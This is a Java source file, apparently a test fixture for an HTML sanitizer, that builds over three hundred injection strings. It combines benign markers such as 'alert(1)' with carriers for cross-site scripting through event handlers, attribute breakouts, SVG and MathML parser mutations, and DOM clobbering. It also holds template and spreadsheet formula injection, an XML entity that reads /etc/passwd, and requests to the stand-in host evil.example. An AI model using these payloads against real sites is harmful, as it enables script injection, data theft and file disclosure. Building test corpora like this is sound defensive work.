package org.dateline.hostile;

import java.util.List;

/** Texts that act where a program takes them for markup, each made of a carrier and an act. */
public final class HostileTexts {

    /** Every carrier stands with both: one would open a dialog, one leave a mark on the window. */
    private static final List<String> ACTS = List.of("alert(1)", "hit&#x3D;1");

    private static final List<String> HANDLERS = List.of(
            "<img src=crane.png onerror=%s>",
            "<img/src='crane.png'/onerror=%s>",
            "<img src onerror='%s'>",
            "<IMG SRC=crane.png OnErRoR=%s>",
            "<img src=crane.png\tonerror\t=%s>",
            "<image src=crane.png onerror=%s>",
            "<body onload=%s>",
            "<html onclick=%s>",
            "<frameset onload=%s>",
            "<details open ontoggle=%s>x</details>",
            "<video><source onerror=%s></video>",
            "<video src=x onerror=%s></video>",
            "<audio src onerror=%s></audio>",
            "<input autofocus onfocus=%s>",
            "<select autofocus onfocus=%s></select>",
            "<textarea autofocus onfocus=%s></textarea>",
            "<keygen autofocus onfocus=%s>",
            "<p contenteditable autofocus onfocus=%s>x</p>",
            "<p id=main tabindex=1 onfocus=%s>x</p>",
            "<p hidden=until-found onbeforematch=%s>x</p>",
            "<p popover id=x onbeforetoggle=%s>x</p><button popovertarget=x>x</button>",
            "<p onmouseover=%s>x</p>",
            "<p onwebkitanimationstart=%s class=st>x</p>",
            "<p/onclick=%s/x>x",
            "<marquee onstart=%s>x</marquee>",
            "<custom-tag onclick=%s>x</custom-tag>",
            "<x:y onclick=%s>x</x:y>",
            "<a title=x onclick=%s>x</a>",
            "<time datetime='x' onclick=%s>x</time>",
            "<td onclick=%s>x</td>",
            "<button form=x onclick=%s>x</button>",
            "<slot onslotchange=%s><p slot=x></slot>");

    private static final List<String> BREAKS = List.of(
            "\" onmouseover=%s x=\"",
            "' onmouseover=%s x='",
            "\" autofocus onfocus=%s tabindex=1 \"",
            "x\tonmouseover=%s\tx",
            "\"><img src onerror=%s>",
            "'><img src onerror=%s>",
            "`><img src onerror=%s>",
            "--><img src onerror=%s>",
            "--!><img src onerror=%s>",
            "]]><script>%s</script>",
            "<![CDATA[<script>%s</script>]]>",
            "&lt;script&gt;%s&lt;/script&gt;",
            "&amp;lt;script&amp;gt;%s&amp;lt;/script&amp;gt;",
            "&#60;script&#62;%s&#60;/script&#62;",
            "\\u003cscript\\u003e%s\\u003c/script\\u003e",
            "\\x3cscript\\x3e%s\\x3c/script\\x3e",
            "\\\"});%s;//",
            "\"});%s;({\"a\":\"",
            "\u2028%s\u2029",
            "+ADw-script+AD4-%s+ADw-/script+AD4-",
            "\uFF1Cscript\uFF1E%s\uFF1C/script\uFF1E",
            "${%s} <#list 1..9 as x>${x}</#list> [=%s] <@layout.page/>",
            "{0} {1} {{%s}} #{%s} <%= %s %>",
            "=cmd|' /C %s'!A0",
            "@SUM(%s)*cmd|x");

    private static final List<String> ELEMENTS = List.of(
            "<script>%s</script>",
            "<script src='https://evil.example/x.js'>%s</script>",
            "<script/x>%s</script>",
            "<script\u00A0x>%s</script>",
            "<scr<script>ipt>%s</scr</script>ipt>",
            "</script><script>%s</script>",
            "<!--<script>%s</script>-->",
            "<!--<script>%s",
            "<!--><img src onerror=%s>-->",
            "<!---><img src onerror=%s>-->",
            "<! foo='><script>%s</script>'>",
            "<? foo='><script>%s</script>'>",
            "<?php %s ?>",
            "<%3Cscript>%s</script>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY f '%s'>]>&e;&f;",
            "<meta http-equiv=refresh content='0;url=javascript:%s'>",
            "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>%s</script>",
            "<meta charset=utf-7>+ADw-script+AD4-%s",
            "<base href='javascript:%s//'>",
            "<base href='https://evil.example/%s'>",
            "<base target=%s>",
            "<link rel=stylesheet href='javascript:%s'>",
            "<link rel=prefetch href='https://evil.example/?%s'>",
            "<link rel=import href='data:text/html,<script>%s</script>'>",
            "<iframe src='javascript:%s'></iframe>",
            "<iframe srcdoc='<script>%s</script>'></iframe>",
            "<iframe><p title='</iframe><img src onerror=%s>'></iframe>",
            "<frame src='javascript:%s'>",
            "<object data='javascript:%s'></object>",
            "<object data='data:text/html,<script>%s</script>'></object>",
            "<embed src='javascript:%s'>",
            "<applet code='javascript:%s'></applet>",
            "<portal src='https://evil.example/?%s'></portal>",
            "<form action='javascript:%s'><button>x</button></form>",
            "<form action='https://evil.example/'><input name=q value='%s'><button>x</button></form>",
            "<button formaction='javascript:%s'>x</button>",
            "<isindex action='javascript:%s' type=image>",
            "<input type=image src=x formaction='javascript:%s'>",
            "<p style='background:url(javascript:%s)'>x</p>",
            "<p style='width:expression(%s)'>x</p>",
            "<p style='position:fixed;inset:0;%s' class='skip corr' role=alert aria-label='%s'>x</p>",
            "<style>@import 'javascript:%s';</style>",
            "<style>p{background:url('https://evil.example/?%s')}</style>",
            "<dialog open onclose=%s><form method=dialog><button>x</button></form></dialog>",
            "<img srcset='https://evil.example/?%s 1x'>",
            "<picture><source srcset='https://evil.example/?%s'><img></picture>",
            "<video poster='https://evil.example/?%s'></video>",
            "<track src='https://evil.example/?%s'>",
            "<table background='https://evil.example/?%s'><tr><td>x</table>",
            "<blockquote cite='javascript:%s'>x</blockquote>",
            "<q cite='javascript:%s'>x</q>",
            "<area ping='https://evil.example/?%s' href=x>");

    private static final List<String> MUTATIONS = List.of(
            "<svg onload=%s>",
            "<svg/onload=%s>",
            "<svg><script>%s</script></svg>",
            "<svg><script href='data:,%s'></script></svg>",
            "<svg><animate onbegin=%s attributeName=x dur=1s>",
            "<svg><a xlink:href='javascript:%s'><text y=9>x</text></a></svg>",
            "<svg><set attributeName=onmouseover to=%s></svg>",
            "<svg><use href='data:image/svg+xml,<svg id=x onload=%s></svg>#x'></use></svg>",
            "<svg><style><img src onerror=%s></style></svg>",
            "<svg></p><style><a id='</style><img src onerror=%s>'>",
            "<svg><desc><table><tr><td></svg><img src onerror=%s></desc>",
            "<svg><foreignObject><iframe srcdoc='<script>%s</script>'></foreignObject></svg>",
            "<svg><title><style><img src onerror=%s></style></title></svg>",
            "<math><mtext><table><mglyph><style><img src onerror=%s></style></mglyph></table></mtext></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=%s&gt;'></math>",
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=%s src>'></form>",
            "<math><annotation-xml encoding='text/html'><style><img src onerror=%s></style></annotation-xml></math>",
            "<math href='javascript:%s'>x</math>",
            "<math><maction actiontype='statusline' xlink:href='javascript:%s'>x</maction></math>",
            "<noscript><p title='</noscript><img src onerror=%s>'></noscript>",
            "<noembed><p title='</noembed><img src onerror=%s>'></noembed>",
            "<noframes><p title='</noframes><img src onerror=%s>'></noframes>",
            "<style><p title='</style><img src onerror=%s>'></style>",
            "<title><a title='</title><img src onerror=%s>'></title>",
            "<textarea><a title='</textarea><img src onerror=%s>'></textarea>",
            "<template><script>%s</script></template>",
            "<template><style></template><img src onerror=%s></style>",
            "<template shadowrootmode=open><script>%s</script></template>",
            "<xmp><a title='</xmp><img src onerror=%s>'></xmp>",
            "<plaintext><a title='x'><img src onerror=%s>",
            "<listing>&lt;img src onerror=%s&gt;</listing>",
            "<pre>\n\n<img src onerror=%s></pre>",
            "<select><option><style></option></select><img src onerror=%s></style>",
            "<table><style><a title='</style><img src onerror=%s>'></table>",
            "<table><td></table><p title='</td><img src onerror=%s>'>",
            "<option><select><template><img src onerror=%s></template></select></option>",
            "<a><a title='</a><img src onerror=%s>'>x</a></a>",
            "<b><p><i></b><img src onerror=%s></p></i>",
            "<p id=\"</p><img src onerror=%s>\">x</p>",
            "<del><form><del><form title='</del><img src onerror=%s>'>");

    /** What scripts look for under these names would be found in the text. */
    private static final List<String> CLOBBERING = List.of(
            "<a id=frame name=%s>x</a>",
            "<a id=main>x</a><a id=main name=%s>x</a>",
            "<a id=documentElement name=cookie title='%s'>x</a>",
            "<form id=body><input name=attributes value='%s'></form>",
            "<img name=getElementById id=%s src=crane.png>",
            "<h2 id=\"'%s\">x</h2>",
            "<ol start='1;%s' reversed='%s'><li id=skip>x</li></ol>",
            "<td headers='%s' colspan='%s'>x</td>");

    private HostileTexts() {}

    /** All of them, over three hundred. */
    public static List<String> all() {
        return acting(List.of(BREAKS, HANDLERS, ELEMENTS, MUTATIONS, CLOBBERING));
    }

    /** Those that lead out of where they stand: of an attribute, a script, a comment. */
    public static List<String> breaks() {
        return acting(List.of(BREAKS));
    }

    private static List<String> acting(List<List<String>> carriers) {
        return carriers.stream()
                .flatMap(List::stream)
                .flatMap(carrier -> ACTS.stream().map(act -> carrier.replace("%s", act)))
                .toList();
    }
}
